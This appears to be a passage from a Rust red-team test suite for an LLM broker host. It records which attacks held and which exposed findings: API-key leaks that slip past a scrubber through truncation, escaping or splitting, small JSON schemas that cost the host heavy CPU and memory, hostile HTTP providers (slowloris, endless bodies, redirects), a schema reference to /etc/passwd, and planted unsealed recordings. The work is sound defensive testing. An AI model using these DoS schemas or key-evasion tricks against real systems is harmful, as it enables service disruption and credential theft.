//! Red-team tests of the model broker below the WIT boundary: what a hostile provider, a hostile
//! request (as a guest would send it) and a tampered data directory can do to the host.
//!
//! A test that fails here demonstrates a finding; a test that passes is an attack that held.
//! Every test synchronises with events (request counts, `wait_for_requests`, a deadline that
//! has passed), never with fixed sleeps or timing assertions.

use super::broker::{Answer, Call, LlmBroker, Mode};
use super::client::retry_after;
use super::config::{LlmConfig, ProviderConfig, ProviderKind};
use super::recordings::{Lookup, Recordings};
use super::request::{
    ChatRequest, ChatResponse, FinishReason, Message, ResponseFormat, Role, Usage,
};
use super::{LlmFailure, providers};
use qi_llm_test_server::{Reply, TestServer};
use serde_json::{Value, json};
use std::time::{Duration, Instant};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

/// A long key, so that a cut through it leaves a recognisable prefix.
const KEY: &str = "sk-redteam-0123456789abcdefghijklmnopqrstuvwxyz";

fn user(text: &str) -> Message {
    Message {
        role: Role::User,
        content: text.into(),
        tool_calls: vec![],
        tool_call_id: None,
    }
}

fn request(model: &str, prompt: &str) -> ChatRequest {
    ChatRequest {
        model: model.into(),
        messages: vec![user(prompt)],
        tools: vec![],
        tool_choice: None,
        response_format: None,
        max_tokens: None,
        temperature: None,
        top_p: None,
        stop: vec![],
    }
}

fn provider_config(
    base_url: &str,
    kind: ProviderKind,
    key_file: &std::path::Path,
) -> ProviderConfig {
    ProviderConfig {
        kind,
        base_url: base_url.into(),
        api_key_env: None,
        api_key_file: Some(key_file.to_path_buf()),
        timeout_ms: 30_000,
        max_concurrent_requests: 16,
        max_retries: 0,
        max_tokens_per_call: 64,
        max_response_bytes: 1 << 20,
    }
}

/// A key file holding [`KEY`] (the directory lives as long as the returned guard).
fn key_file() -> (tempfile::TempDir, std::path::PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("key");
    std::fs::write(&path, KEY).unwrap();
    (dir, path)
}

/// A live broker with one provider `p` at `base_url`, `tweak` applied to its configuration.
fn broker(
    base_url: &str,
    kind: ProviderKind,
    tweak: impl FnOnce(&mut ProviderConfig),
) -> (tempfile::TempDir, LlmBroker) {
    let (dir, key) = key_file();
    let mut p = provider_config(base_url, kind, &key);
    tweak(&mut p);
    let mut config = LlmConfig::default();
    config.providers.insert("p".into(), p);
    let b = LlmBroker::new(config, Recordings::in_memory(), Mode::Live).unwrap();
    (dir, b)
}

/// What the agent would get for `req` (scope and occurrence fixed, deadline 30 s away).
async fn ask(b: &LlmBroker, req: &ChatRequest) -> Result<Answer, LlmFailure> {
    ask_at(
        b,
        req,
        "agent/redteam",
        1,
        Instant::now() + Duration::from_secs(30),
    )
    .await
}

async fn ask_at(
    b: &LlmBroker,
    req: &ChatRequest,
    scope: &str,
    occurrence: u32,
    deadline: Instant,
) -> Result<Answer, LlmFailure> {
    let resolved = b.resolve(&req.model).expect("the model resolves");
    let hash = req.hash(&resolved.id);
    b.chat(
        Call {
            request: req,
            resolved: &resolved,
            max_tokens: 64,
            hash: &hash,
            scope,
            occurrence,
            deadline,
        },
        &mut None,
    )
    .await
}

/// Every text of an answer or a failure the agent receives.
fn texts(result: &Result<Answer, LlmFailure>) -> Vec<String> {
    match result {
        Ok(a) => {
            let mut v = vec![a.response.content.clone(), a.response.model.clone()];
            for c in &a.response.tool_calls {
                v.extend([c.id.clone(), c.name.clone(), c.arguments.clone()]);
            }
            v
        }
        Err(f) => vec![f.message().to_string()],
    }
}

/// Percent-decoding, as any agent would apply to text that looks URL-encoded.
fn percent_decode(text: &str) -> String {
    let b = text.as_bytes();
    let hex = |c: u8| (c as char).to_digit(16);
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() {
        match (
            b[i],
            b.get(i + 1).and_then(|&c| hex(c)),
            b.get(i + 2).and_then(|&c| hex(c)),
        ) {
            (b'%', Some(h), Some(l)) => {
                out.push((h * 16 + l) as u8);
                i += 3;
            }
            (c, _, _) => {
                out.push(c);
                i += 1;
            }
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// Every string inside `text` read as JSON (recursively), or nothing if it is not JSON.
fn json_strings(text: &str) -> Vec<String> {
    fn walk(v: &Value, out: &mut Vec<String>) {
        match v {
            Value::String(s) => out.push(s.clone()),
            Value::Array(a) => a.iter().for_each(|v| walk(v, out)),
            Value::Object(o) => o.iter().for_each(|(k, v)| {
                out.push(k.clone());
                walk(v, out)
            }),
            _ => {}
        }
    }
    let mut out = Vec::new();
    if let Ok(v) = serde_json::from_str::<Value>(text) {
        walk(&v, &mut out);
    }
    out
}

/// The longest prefix of [`KEY`] (at least 8 bytes) found in `text`, if any.
fn key_prefix_in(text: &str) -> Option<&'static str> {
    (8..=KEY.len())
        .rev()
        .map(|n| &KEY[..n])
        .find(|p| text.contains(p))
}

// ---------------------------------------------------------------------------------------------
// The key must never reach the agent.
// ---------------------------------------------------------------------------------------------

/// FINDING: `providers::error_message` cuts a provider's error text to 512 bytes, and only then is
/// the key scrubbed: a key that straddles the cut is no longer the whole key, so its prefix
/// goes to the agent.
#[tokio::test]
async fn rt_key_prefix_leaks_when_an_error_body_is_cut_before_it_is_scrubbed() {
    let server = TestServer::start(KEY).await;
    let (_d, b) = broker(&server.base_url(), ProviderKind::Openai, |_| {});
    // A provider that echoes the credentials late in a long (non-JSON) error body.
    let body = format!(
        "{} invalid credentials: Bearer {KEY} (rotate it)",
        "x".repeat(474)
    );
    server.push(Reply::status(401, body));
    let r = ask(&b, &request("p/m", "hi")).await;
    let message = texts(&r).join("\n");
    assert!(r.is_err(), "{r:?}");
    assert_eq!(
        key_prefix_in(&message),
        None,
        "a prefix of the key reached the agent in: {message:?}"
    );
}

/// FINDING: the preview of a 2xx answer that is not JSON is cut to 200 bytes before scrubbing:
/// the same partial-key leak on the success path.
#[tokio::test]
async fn rt_key_prefix_leaks_from_the_preview_of_an_answer_that_is_not_json() {
    let server = TestServer::start(KEY).await;
    let (_d, b) = broker(&server.base_url(), ProviderKind::Openai, |_| {});
    server.push(Reply::Malformed(format!(
        "<html>{} {KEY}</html>",
        "y".repeat(183)
    )));
    let r = ask(&b, &request("p/m", "hi")).await;
    let message = texts(&r).join("\n");
    assert!(matches!(r, Err(LlmFailure::ProviderError(_))), "{r:?}");
    assert_eq!(
        key_prefix_in(&message),
        None,
        "a prefix of the key reached the agent in: {message:?}"
    );
}

/// FINDING: scrubbing matches the key's literal bytes only. OpenAI tool-call arguments (and a
/// JSON-format content) are JSON *text*: a provider writing the key there with a `\u` escape
/// passes the scrubber, and the agent's JSON parser restores it.
#[tokio::test]
async fn rt_json_escaped_key_in_tool_call_arguments_reaches_the_agent() {
    let server = TestServer::start(KEY).await;
    let (_d, b) = broker(&server.base_url(), ProviderKind::Openai, |_| {});
    let escaped = format!("\\u0073{}", &KEY[1..]); // `\u0073` is `s`
    let arguments = format!("{{\"token\":\"{escaped}\"}}");
    let body = json!({
        "model": "m",
        "choices": [{"message": {"role": "assistant", "content": arguments, "tool_calls": [
            {"id": "c1", "type": "function", "function": {"name": "t", "arguments": arguments}}
        ]}, "finish_reason": "tool_calls"}],
        "usage": {"prompt_tokens": 1, "completion_tokens": 1},
    });
    server.push(Reply::Malformed(body.to_string()));
    let r = ask(&b, &request("p/m", "hi")).await;
    // Withheld whole (fixed), or shown without the key.
    if let Err(e) = &r {
        assert!(e.message().contains("withheld"), "{e:?}");
        return;
    }
    let decoded: Vec<String> = texts(&r).iter().flat_map(|t| json_strings(t)).collect();
    assert!(
        !decoded.iter().any(|s| s.contains(KEY)),
        "the key reached the agent JSON-escaped: {:?}",
        texts(&r)
    );
}

/// FINDING: a key split between two fields of one answer (here the content and a tool call's
/// arguments) is never whole in any one field, so nothing is scrubbed.
#[tokio::test]
async fn rt_key_split_across_answer_fields_reaches_the_agent() {
    let server = TestServer::start(KEY).await;
    let (_d, b) = broker(&server.base_url(), ProviderKind::Openai, |_| {});
    let (front, back) = KEY.split_at(KEY.len() / 2);
    let body = json!({
        "model": "m",
        "choices": [{"message": {"role": "assistant", "content": format!("part one: {front}"),
            "tool_calls": [{"id": "c1", "type": "function",
                "function": {"name": "t", "arguments": json!({"rest": back}).to_string()}}]},
            "finish_reason": "tool_calls"}],
        "usage": {"prompt_tokens": 1, "completion_tokens": 1},
    });
    server.push(Reply::Malformed(body.to_string()));
    let r = ask(&b, &request("p/m", "hi")).await;
    // Withheld whole (fixed), or shown without the key.
    if let Err(e) = &r {
        assert!(e.message().contains("withheld"), "{e:?}");
        return;
    }
    let all = texts(&r);
    assert!(
        !all.iter().any(|t| t.contains(front)) || !all.iter().any(|t| t.contains(back)),
        "both halves of the key reached the agent: {all:?}"
    );
}

/// FINDING: a provider error that echoes the auth header percent-encoded (as a proxy logging a
/// URL would) passes the scrubber.
#[tokio::test]
async fn rt_percent_encoded_key_in_a_provider_error_reaches_the_agent() {
    let server = TestServer::start(KEY).await;
    let (_d, b) = broker(&server.base_url(), ProviderKind::Openai, |_| {});
    let encoded: String = KEY.bytes().map(|c| format!("%{c:02X}")).collect();
    let body = json!({"error": {"message": format!("denied: authorization=Bearer%20{encoded}")}});
    server.push(Reply::status(403, body.to_string()));
    let r = ask(&b, &request("p/m", "hi")).await;
    let message = texts(&r).join("\n");
    assert!(r.is_err(), "{r:?}");
    assert!(
        !percent_decode(&message).contains(KEY),
        "the key reached the agent percent-encoded: {message:?}"
    );
}

/// HELD: the key echoed literally in every field the agent sees (content split over Anthropic
/// text blocks, tool-call id, name and input, model name) and in an error message (JSON with
/// `\u` escapes in the outer document) is scrubbed.
#[tokio::test]
async fn rt_literal_key_echoes_are_scrubbed_everywhere() {
    let server = TestServer::start(KEY).await;
    let (_d, b) = broker(&server.base_url(), ProviderKind::Anthropic, |_| {});
    let (front, back) = KEY.split_at(10);
    let body = json!({
        "model": format!("m-{KEY}"),
        "content": [
            {"type": "text", "text": format!("a {front}")},
            {"type": "text", "text": format!("{back} b")},
            {"type": "tool_use", "id": format!("id-{KEY}"), "name": format!("n{KEY}"),
             "input": {"k": KEY}},
        ],
        "stop_reason": "tool_use",
        "usage": {"input_tokens": 1, "output_tokens": 1},
    });
    server.push(Reply::Malformed(body.to_string()));
    let r = ask(&b, &request("p/m", "hi")).await;
    assert!(r.is_ok(), "{r:?}");
    for t in texts(&r) {
        assert!(!t.contains(KEY), "{t}");
        for s in json_strings(&t) {
            assert!(!s.contains(KEY), "{s}");
        }
    }
    // An error whose JSON message spells the key with escapes, and the credentials echo.
    let escaped: String = KEY
        .chars()
        .map(|c| format!("\\u{:04x}", c as u32))
        .collect();
    server.push(Reply::status(
        400,
        format!("{{\"error\":{{\"message\":\"bad key {escaped}\"}}}}"),
    ));
    server.push(Reply::EchoCredentials);
    for _ in 0..2 {
        let r = ask(&b, &request("p/m", "again")).await;
        let m = texts(&r).join("\n");
        assert!(r.is_err(), "{r:?}");
        assert!(!m.contains(KEY) && key_prefix_in(&m).is_none(), "{m}");
    }
}

// ---------------------------------------------------------------------------------------------
// Bounds on what a guest's request makes the host do.
// ---------------------------------------------------------------------------------------------

/// A response format asking for `schema` (as a guest's `json-schema` would).
fn with_schema(schema: Value) -> ChatRequest {
    let mut r = request("p/m", "answer");
    r.response_format = Some(ResponseFormat::JsonSchema {
        name: "answer".into(),
        schema,
        strict: false,
    });
    r
}

/// FINDING (denial of service): `ChatRequest::check` compiles the guest's response schema,
/// regexes included, with no bound on how many or how large. A 150-byte schema of six
/// Unicode-class regexes costs the host about 0.7 s of CPU and 80 MB (measured with jsonschema
/// 0.60.2 in release); 64 KiB of them, minutes and tens of GB, on an async worker thread the
/// agent's deadline cannot interrupt. `check` runs before the grant, the gate and every budget,
/// so an agent with no model (or a host with none configured) can do it in a loop.
#[test]
fn rt_a_small_response_schema_with_heavy_regexes_is_accepted() {
    let mut props = serde_json::Map::new();
    for i in 0..6 {
        props.insert(format!("\\p{{L}}{{200}}{i}"), json!({}));
    }
    let schema = json!({"type": "object", "patternProperties": props});
    let size = schema.to_string().len();
    let r = with_schema(schema);
    assert!(
        r.check().is_err(),
        "a {size}-byte schema of six regexes that each compile to ~10 MB of automata was \
         accepted by check(); ~3,000 of them fit in MAX_SCHEMA_BYTES"
    );
}

/// FINDING (denial of service): a schema whose `$ref`s fan out (each definition an `allOf` of
/// two references to the next) makes validation exponential in its size. `check` accepts a
/// 2.6 KB schema of 40 levels; validating any valid answer against it (`check_format`, which
/// walks the whole tree for a valid instance) takes 2^40 steps, synchronously on the host's
/// executor, past the agent's deadline and `terminate`.
#[test]
fn rt_a_response_schema_with_exponential_ref_fanout_is_accepted() {
    fn fanout(levels: usize) -> Value {
        let mut defs = serde_json::Map::new();
        for i in 0..levels {
            let next = format!("#/$defs/d{}", i + 1);
            defs.insert(
                format!("d{i}"),
                json!({"allOf": [{"$ref": next}, {"$ref": next}]}),
            );
        }
        defs.insert(format!("d{levels}"), json!({"type": "object"}));
        json!({"$defs": defs, "$ref": "#/$defs/d0"})
    }
    // Evidence that the work doubles per level: one validation of one value reports 2^12
    // errors for a 12-level schema (counted, not timed).
    let small = jsonschema::validator_for(&fanout(12)).unwrap();
    assert_eq!(small.iter_errors(&json!(1)).count(), 1 << 12);
    let schema = fanout(40);
    let size = schema.to_string().len();
    let r = with_schema(schema);
    assert!(
        r.check().is_err(),
        "a {size}-byte schema whose validation takes 2^40 steps was accepted by check()"
    );
}

/// HELD: a schema that refers outside itself (HTTP or a file) is refused, and nothing is
/// fetched: jsonschema is built without its resolvers.
#[tokio::test]
async fn rt_a_response_schema_cannot_make_the_host_fetch_or_read() {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    for schema in [
        json!({"$ref": format!("http://{addr}/schema.json")}),
        json!({"$ref": "file:///etc/passwd"}),
        json!({"properties": {"a": {"$ref": format!("http://{addr}/a#/x")}}}),
    ] {
        let e = with_schema(schema.clone()).check().unwrap_err();
        assert!(e.contains("response-format.schema"), "{schema}: {e}");
    }
    // Nothing connected to the listener: a connection made now is the first one accepted.
    let probe = tokio::net::TcpStream::connect(addr).await.unwrap();
    let (_, peer) = listener.accept().await.unwrap();
    assert_eq!(peer, probe.local_addr().unwrap());
}

/// HELD: a cyclic schema compiles and validates without recursion trouble; a deeply nested
/// one is refused by the schema bounds.
#[test]
fn rt_cyclic_and_deep_schemas_are_harmless() {
    let cyclic = json!({"$defs": {"a": {"$ref": "#/$defs/a"}}, "$ref": "#/$defs/a"});
    let r = with_schema(cyclic.clone());
    let _ = r.check();
    if let Ok(v) = jsonschema::validator_for(&cyclic) {
        let _ = v.iter_errors(&json!({})).next();
    }
    let mut deep = json!({"type": "object"});
    for _ in 0..120 {
        deep = json!({"properties": {"a": deep}});
    }
    // Past `schema::MAX_DEPTH` it is refused, before anything compiles.
    let e = with_schema(deep).check().unwrap_err();
    assert!(e.contains("deeper"), "{e}");
}

/// LOW: an Anthropic answer may carry up to 144 tool calls (the content-block bound), more
/// than `MAX_TOOL_CALLS` (128) a request may hold: an agent that hands the answer back, as the
/// SDK's tool loop does, is refused with `invalid-request`.
#[test]
fn rt_anthropic_answers_hold_no_more_tool_calls_than_a_request_may() {
    let r = request("p/m", "hi");
    let blocks: Vec<Value> = (0..140)
        .map(|i| json!({"type": "tool_use", "id": format!("t{i}"), "name": "x", "input": {}}))
        .collect();
    let body = json!({"content": blocks, "stop_reason": "tool_use",
                      "usage": {"input_tokens": 1, "output_tokens": 1}});
    let decoded = providers::decode(ProviderKind::Anthropic, &r, "p", &body);
    if let Ok(a) = &decoded {
        assert!(
            a.tool_calls.len() <= super::request::MAX_TOOL_CALLS,
            "an answer with {} tool calls was accepted; a request may hold {}",
            a.tool_calls.len(),
            super::request::MAX_TOOL_CALLS
        );
    }
}

/// HELD: `Retry-After` values a hostile provider may send never panic and stay within an hour.
#[test]
fn rt_retry_after_survives_hostile_values() {
    use reqwest::header::{HeaderMap, HeaderValue};
    for v in [
        "-0",
        "-1",
        "NaN",
        "inf",
        "-inf",
        "1e309",
        "1e-320",
        "18446744073709551616",
        "Fri, 31 Dec 9999 23:59:59 GMT",
        "Thu, 01 Jan 1970 00:00:00 GMT",
        "",
        " 5 ",
        "0x10",
    ] {
        for name in ["retry-after", "retry-after-ms"] {
            let mut h = HeaderMap::new();
            h.insert(name, HeaderValue::from_str(v).unwrap());
            if let Some(d) = retry_after(&h) {
                assert!(d <= Duration::from_secs(3_600), "{name}: {v} → {d:?}");
            }
        }
    }
}

// ---------------------------------------------------------------------------------------------
// A hostile provider: HTTP-level attacks, from a raw socket.
// ---------------------------------------------------------------------------------------------

/// A raw HTTP server: for each connection, reads the request head (and discards the body),
/// then runs `answer` on the socket. Returns its base URL and a counter of connections.
async fn raw_server<F, Fut>(answer: F) -> (String, std::sync::Arc<std::sync::atomic::AtomicUsize>)
where
    F: Fn(tokio::net::TcpStream) -> Fut + Send + Sync + 'static,
    Fut: std::future::Future<Output = ()> + Send + 'static,
{
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let count = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let c = count.clone();
    let answer = std::sync::Arc::new(answer);
    tokio::spawn(async move {
        while let Ok((mut sock, _)) = listener.accept().await {
            c.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            let answer = answer.clone();
            tokio::spawn(async move {
                let mut head = Vec::new();
                let mut buf = [0u8; 4096];
                while !contains(&head, b"\r\n\r\n") {
                    match sock.read(&mut buf).await {
                        Ok(0) | Err(_) => return,
                        Ok(n) => head.extend_from_slice(&buf[..n]),
                    }
                }
                answer(sock).await;
            });
        }
    });
    (format!("http://{addr}"), count)
}

fn contains(hay: &[u8], needle: &[u8]) -> bool {
    hay.windows(needle.len()).any(|w| w == needle)
}

/// HELD: a body that never ends (chunked, endless) is cut at `maxResponseBytes`.
#[tokio::test]
async fn rt_an_endless_chunked_body_is_cut_at_max_response_bytes() {
    let (url, _) = raw_server(|mut s| async move {
        let _ = s
            .write_all(b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n")
            .await;
        let chunk = format!("400\r\n{}\r\n", "a".repeat(0x400));
        while s.write_all(chunk.as_bytes()).await.is_ok() {}
    })
    .await;
    let (_d, b) = broker(&url, ProviderKind::Openai, |p| {
        p.max_response_bytes = 4 << 10
    });
    let r = ask(&b, &request("p/m", "hi")).await;
    match r {
        Err(LlmFailure::ProviderError(m)) => assert!(m.contains("larger than"), "{m}"),
        other => panic!("{other:?}"),
    }
}

/// HELD: a `Content-Length` far past the bound is refused before reading.
#[tokio::test]
async fn rt_a_huge_content_length_is_refused_before_reading() {
    let (url, _) = raw_server(|mut s| async move {
        let _ = s
            .write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 999999999999\r\n\r\n{")
            .await;
        std::future::pending::<()>().await;
    })
    .await;
    let (_d, b) = broker(&url, ProviderKind::Openai, |_| {});
    match ask(&b, &request("p/m", "hi")).await {
        Err(LlmFailure::ProviderError(m)) => assert!(m.contains("larger than"), "{m}"),
        other => panic!("{other:?}"),
    }
}

/// HELD: endless response headers are refused by the HTTP client's own bound (no hang, no
/// unbounded buffer), and the failure says nothing of the provider's headers.
#[tokio::test]
async fn rt_endless_response_headers_are_bounded() {
    let (url, _) = raw_server(|mut s| async move {
        let _ = s.write_all(b"HTTP/1.1 200 OK\r\n").await;
        let line = format!("x-filler: {}\r\n", "h".repeat(1000));
        while s.write_all(line.as_bytes()).await.is_ok() {}
    })
    .await;
    let (_d, b) = broker(&url, ProviderKind::Openai, |_| {});
    let r = ask(&b, &request("p/m", "hi")).await;
    assert!(matches!(r, Err(LlmFailure::Unavailable(_))), "{r:?}");
}

/// HELD: a provider that trickles its answer one byte at a time is cut by `timeoutMs`.
#[tokio::test]
async fn rt_a_slowloris_provider_is_cut_by_the_timeout() {
    let (url, _) = raw_server(|mut s| async move {
        let _ = s
            .write_all(b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n")
            .await;
        loop {
            if s.write_all(b"1\r\n \r\n").await.is_err() {
                return;
            }
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
    })
    .await;
    let (_d, b) = broker(&url, ProviderKind::Openai, |p| p.timeout_ms = 300);
    let r = ask(&b, &request("p/m", "hi")).await;
    assert!(matches!(r, Err(LlmFailure::Unavailable(_))), "{r:?}");
}

/// HELD: an answer that is not UTF-8 is a provider error, not a panic.
#[tokio::test]
async fn rt_an_answer_that_is_not_utf8_is_a_provider_error() {
    let (url, _) = raw_server(|mut s| async move {
        let body: &[u8] = b"{\"choices\":[{\"message\":{\"content\":\"\xff\xfe\xc0\x80\"}}]}";
        let head = format!(
            "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: {}\r\n\r\n",
            body.len()
        );
        let _ = s.write_all(head.as_bytes()).await;
        let _ = s.write_all(body).await;
    })
    .await;
    let (_d, b) = broker(&url, ProviderKind::Openai, |_| {});
    let r = ask(&b, &request("p/m", "hi")).await;
    assert!(matches!(r, Err(LlmFailure::ProviderError(_))), "{r:?}");
}

/// HELD: a redirect is not followed (the key never goes to the `Location`), and is a refusal.
#[tokio::test]
async fn rt_a_redirect_is_not_followed() {
    let attacker = TestServer::start("whatever").await;
    let location = format!("{}/v1/chat/completions", attacker.base_url());
    for code in [301u16, 302, 307, 308] {
        let location = location.clone();
        let (url, _) = raw_server(move |mut s| {
            let location = location.clone();
            async move {
                let head = format!(
                    "HTTP/1.1 {code} Moved\r\nlocation: {location}\r\ncontent-length: 0\r\n\r\n"
                );
                let _ = s.write_all(head.as_bytes()).await;
            }
        })
        .await;
        let (_d, b) = broker(&url, ProviderKind::Openai, |_| {});
        let r = ask(&b, &request("p/m", "hi")).await;
        assert!(
            matches!(r, Err(LlmFailure::ProviderError(_))),
            "{code}: {r:?}"
        );
    }
    assert_eq!(attacker.request_count(), 0, "a redirect was followed");
}

/// HELD: a 429 asking for more time than the deadline leaves is not waited for: one request,
/// `rate-limited` at once with the provider's wait.
#[tokio::test]
async fn rt_a_retry_after_past_the_deadline_is_not_waited_for() {
    let server = TestServer::start(KEY).await;
    let (_d, b) = broker(&server.base_url(), ProviderKind::Openai, |p| {
        p.max_retries = 10
    });
    server.push(Reply::status_with_retry_after(
        429,
        "3600",
        "{\"error\":{\"message\":\"slow down\"}}",
    ));
    let r = ask(&b, &request("p/m", "hi")).await;
    match r {
        Err(LlmFailure::RateLimited { retry_after_ms, .. }) => {
            assert_eq!(retry_after_ms, 3_600_000)
        }
        other => panic!("{other:?}"),
    }
    assert_eq!(server.request_count(), 1);
}

/// LOW FINDING: `Provider::send` computes its try's timeout before it waits for a permit
/// (`maxConcurrentRequests`), and never looks at the deadline again: a call that waited past
/// its deadline is still sent, and answered. (An agent's own calls are also cancelled by the
/// agent's deadline race; this is the broker's own contract: "no try starts after it".)
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rt_a_call_waiting_for_a_permit_is_not_sent_after_its_deadline() {
    let server = TestServer::start(KEY).await;
    let (_d, b) = broker(&server.base_url(), ProviderKind::Openai, |p| {
        p.max_concurrent_requests = 1;
        p.max_retries = 0;
    });
    let b = std::sync::Arc::new(b);
    server.push(Reply::Hang);
    let first = {
        let b = b.clone();
        tokio::spawn(async move { ask(&b, &request("p/m", "first")).await })
    };
    server.wait_for_requests(1).await;
    // The second call takes the only permit's queue; its deadline then passes while it waits.
    let deadline = Instant::now() + Duration::from_millis(300);
    let second = {
        let b = b.clone();
        tokio::spawn(async move {
            ask_at(&b, &request("p/m", "second"), "agent/other", 1, deadline).await
        })
    };
    tokio::time::sleep_until(tokio::time::Instant::from_std(deadline)).await;
    server.release_hung();
    let _ = first.await.unwrap();
    let r = second.await.unwrap();
    assert!(
        r.is_err() && server.request_count() == 1,
        "a call was sent after its deadline (requests: {}) and answered: {r:?}",
        server.request_count()
    );
}

// ---------------------------------------------------------------------------------------------
// Record and replay.
// ---------------------------------------------------------------------------------------------

fn answer(content: &str, model: &str) -> ChatResponse {
    ChatResponse {
        content: content.into(),
        tool_calls: vec![],
        finish_reason: FinishReason::Stop,
        model: model.into(),
        usage: Usage {
            input_tokens: 1,
            output_tokens: 1,
        },
    }
}

async fn durable_store(dir: &std::path::Path) -> crate::store::Store {
    crate::store::Store::open(crate::store::StoreConfig::at(dir)).unwrap()
}

/// FINDING: with a master key, a recording that is not sealed is still accepted. Every other
/// sealed table refuses "a row not written by this host"; here anyone who can write the data
/// directory (not read it: nothing is decrypted) plants a model answer that a retried subtask
/// or `--llm-replay` returns as the model's, with `replayed = true`.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rt_an_unsealed_recording_is_refused_when_recordings_are_sealed() {
    let dir = tempfile::tempdir().unwrap();
    let store = durable_store(dir.path()).await;
    let req = request("p/m", "is this code safe?");
    let hash = req.hash("p/m");
    // The attacker's row: written without the key, as a plaintext writer (or sqlite3) would.
    let plain = Recordings::durable(store.clone(), None);
    plain
        .record(
            &hash,
            "run/r/s",
            1,
            &req,
            &answer("approve: it is safe", "p/m"),
        )
        .await
        .unwrap();
    let master = crate::store::crypto::MasterKey::generate();
    let sealed = Recordings::durable(store.clone(), Some(&master));
    let found = sealed.find(&hash, "run/r/s", 1, Lookup::SameScope).await;
    assert!(
        !matches!(found, Ok(Some(_))),
        "an unsealed recording was accepted under a master key: {found:?}"
    );
}

/// HELD: a recording sealed under another master key does not open; sealed rows are bound to
/// their hash, scope and occurrence (a row copied to another scope does not open either).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rt_sealed_recordings_do_not_open_with_another_key_or_elsewhere() {
    let dir = tempfile::tempdir().unwrap();
    let store = durable_store(dir.path()).await;
    let req = request("p/m", "q");
    let hash = req.hash("p/m");
    let k1 = crate::store::crypto::MasterKey::generate();
    let k2 = crate::store::crypto::MasterKey::generate();
    let r1 = Recordings::durable(store.clone(), Some(&k1));
    r1.record(&hash, "run/r/a", 1, &req, &answer("a", "p/m"))
        .await
        .unwrap();
    let r2 = Recordings::durable(store.clone(), Some(&k2));
    assert!(
        r2.find(&hash, "run/r/a", 1, Lookup::SameScope)
            .await
            .is_err()
    );
    // Copy the sealed row to another scope and occurrence: it must not open there.
    let s = store.clone();
    s.write(|ctx| {
        ctx.tx().execute(
            "INSERT INTO llm_recordings (hash, scope, occurrence, model, request, response, created_at) \
             SELECT hash, 'run/r/b', 2, model, request, response, created_at FROM llm_recordings",
            (),
        )?;
        Ok(())
    })
    .await
    .unwrap();
    assert!(
        r1.find(&hash, "run/r/b", 2, Lookup::SameScope)
            .await
            .is_err()
    );
    assert!(matches!(
        r1.find(&hash, "run/r/a", 1, Lookup::SameScope).await,
        Ok(Some(_))
    ));
    // Without a key, a sealed row is an error, never plaintext.
    let none = Recordings::durable(store.clone(), None);
    assert!(
        none.find(&hash, "run/r/a", 1, Lookup::SameScope)
            .await
            .is_err()
    );
}

/// HELD: live, a recording answers only its own scope; under replay, only the same request to
/// the same resolved model (another model, another prompt or other options get nothing).
#[tokio::test]
async fn rt_recordings_do_not_answer_other_scopes_models_or_requests() {
    let recordings = Recordings::in_memory();
    let req = request("p/a", "what is 2+2?");
    recordings
        .record(&req.hash("p/a"), "run/r/one", 1, &req, &answer("4", "p/a"))
        .await
        .unwrap();
    // Live: another subtask asking the same gets nothing.
    assert!(
        recordings
            .find(&req.hash("p/a"), "run/r/two", 1, Lookup::SameScope)
            .await
            .unwrap()
            .is_none()
    );
    let mut config = LlmConfig::default();
    let (_d, key) = key_file();
    config.providers.insert(
        "p".into(),
        provider_config("http://127.0.0.1:9", ProviderKind::Openai, &key),
    );
    config.models.insert("alias".into(), "p/b".into());
    let b = LlmBroker::new(config, recordings, Mode::Replay).unwrap();
    let mut other_options = req.clone();
    other_options.temperature = Some(0.0);
    let mut other_tokens = req.clone();
    other_tokens.max_tokens = Some(5);
    for (what, r) in [
        ("another model", request("p/b", "what is 2+2?")),
        (
            "an alias of another model",
            request("alias", "what is 2+2?"),
        ),
        ("another prompt", request("p/a", "what is 2+3?")),
        ("other options", other_options),
        ("another max-tokens", other_tokens),
    ] {
        let got = ask_at(
            &b,
            &r,
            "run/x/y",
            1,
            Instant::now() + Duration::from_secs(5),
        )
        .await;
        assert!(
            matches!(got, Err(LlmFailure::Unavailable(_))),
            "{what} was answered from a recording: {got:?}"
        );
    }
    // The same request from anywhere is replayed.
    let got = ask_at(
        &b,
        &req,
        "run/x/y",
        1,
        Instant::now() + Duration::from_secs(5),
    )
    .await;
    assert!(matches!(got, Ok(Answer { replayed: true, .. })), "{got:?}");
}

// ---------------------------------------------------------------------------------------------
// The operator's and the manifest's configuration.
// ---------------------------------------------------------------------------------------------

/// `text` as a manifest file, loaded and checked as `qi-host run` does.
fn load_manifest(text: &str) -> crate::error::Result<crate::coord::manifest::Manifest> {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("task.toml");
    std::fs::write(&path, text).unwrap();
    crate::coord::manifest::Manifest::load(&path).map(|(m, _)| m)
}

fn manifest_with_llm(llm: &str) -> String {
    format!(
        "[task]\nid = \"t\"\n[strategy]\ntype = \"parallel\"\n[agents.a]\ncomponent = \"guest:llm-agent\"\n\
         [[subtasks]]\nid = \"ask\"\nagent = \"a\"\n{llm}"
    )
}

/// HELD: a manifest cannot name a key file, a variable that does not end in `_API_KEY`, a
/// `QI_HOST_*` one, or a base URL with credentials; a NUL in a variable name does not crash.
#[test]
fn rt_the_manifest_key_rule_holds() {
    // The manifest itself is valid: only its [llm] section decides.
    if let Err(e) = load_manifest(&manifest_with_llm("")) {
        panic!("the base manifest is refused: {e}");
    }
    let provider = |extra: &str| {
        manifest_with_llm(&format!(
